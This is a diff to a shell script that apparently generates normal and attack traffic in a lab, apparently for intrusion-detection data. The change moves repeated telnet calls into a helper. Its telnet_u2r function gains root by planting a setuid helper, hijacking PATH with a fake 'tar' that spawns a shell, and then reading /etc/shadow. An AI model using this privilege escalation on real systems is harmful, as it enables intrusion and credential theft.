@@ -191,8 +191,9 @@ normal_ssh() { for i in 1 2 3; do
     in_atk sshpass -p wonderland-7 scp $SSH_OPTS alice@$S:/srv/ftp/pub/release.tar.gz "$WORK/s$i"
     printf 'ls /srv/ftp/pub\nsleep 1\nexit\n' | in_atk sshpass -p wonderland-7 ssh -tt $SSH_OPTS alice@$S >/dev/null
     sleep 1; done; }
+telnet_alice() { in_atk "$PY" "$HERE/telnet_session.py" $S alice wonderland-7 "$@"; }  # COMMAND...
 normal_telnet() { for i in 1 2 3; do
-    in_atk "$PY" "$HERE/telnet_session.py" $S alice wonderland-7 "ls -la" "cat /etc/hostname" \
+    telnet_alice "ls -la" "cat /etc/hostname" \
         "ps" "df" "uptime"; sleep 1; done; }
 normal_pop3() { for i in 1 2 3; do
     in_atk curl -s -o /dev/null "pop3://alice:wonderland-7@$S/"
@@ -266,7 +267,7 @@ web_dirb() {  # dirb with the first 300 words of its small list against nginx, o
 normal_telnet_dev() {  # telnet_u2r's steps without the root shell: a user writes, builds
     # and runs a small program, then tidies up
     for i in 1 2; do
-        in_atk "$PY" "$HERE/telnet_session.py" $S alice wonderland-7 "id" "mkdir -p ~/.k" "cd ~/.k" \
+        telnet_alice "id" "mkdir -p ~/.k" "cd ~/.k" \
             "printf '#include <stdio.h>\\nint main(void) { puts(\"hello\"); return 0; }\\n' > hello.c" \
             "gcc -o hello hello.c" "./hello" "chmod +x hello" "ls -la" "wc -l hello.c" "cd; rm -rf ~/.k"
         sleep 1; done; }
@@ -369,7 +370,7 @@ telnet_u2r() {  # a user logs in over telnet, compiles an exploit, gains a root 
         > "$WORK/helper.c"
     gcc -o "$HELPER" "$WORK/helper.c" && chmod 4755 "$HELPER"
     for i in 1 2; do
-        in_atk "$PY" "$HERE/telnet_session.py" $S alice wonderland-7 "id" "mkdir -p ~/.k" "cd ~/.k" \
+        telnet_alice "id" "mkdir -p ~/.k" "cd ~/.k" \
             "printf '#!/bin/sh\\nexec /bin/sh -i 2>&1\\n' > tar" "chmod +x tar" \
             "printf '#include <stdlib.h>\\n#include <unistd.h>\\nint main(void) { setenv(\"PATH\", \"/home/alice/.k:/usr/bin:/bin\", 1); execl(\"$HELPER\", \"h\", (char *)0); return 1; }\\n' > x.c" \
             "gcc -o x x.c" "./x" "id" "wc -l /etc/shadow" "ls -ld /root" "exit" "cd; rm -rf ~/.k"
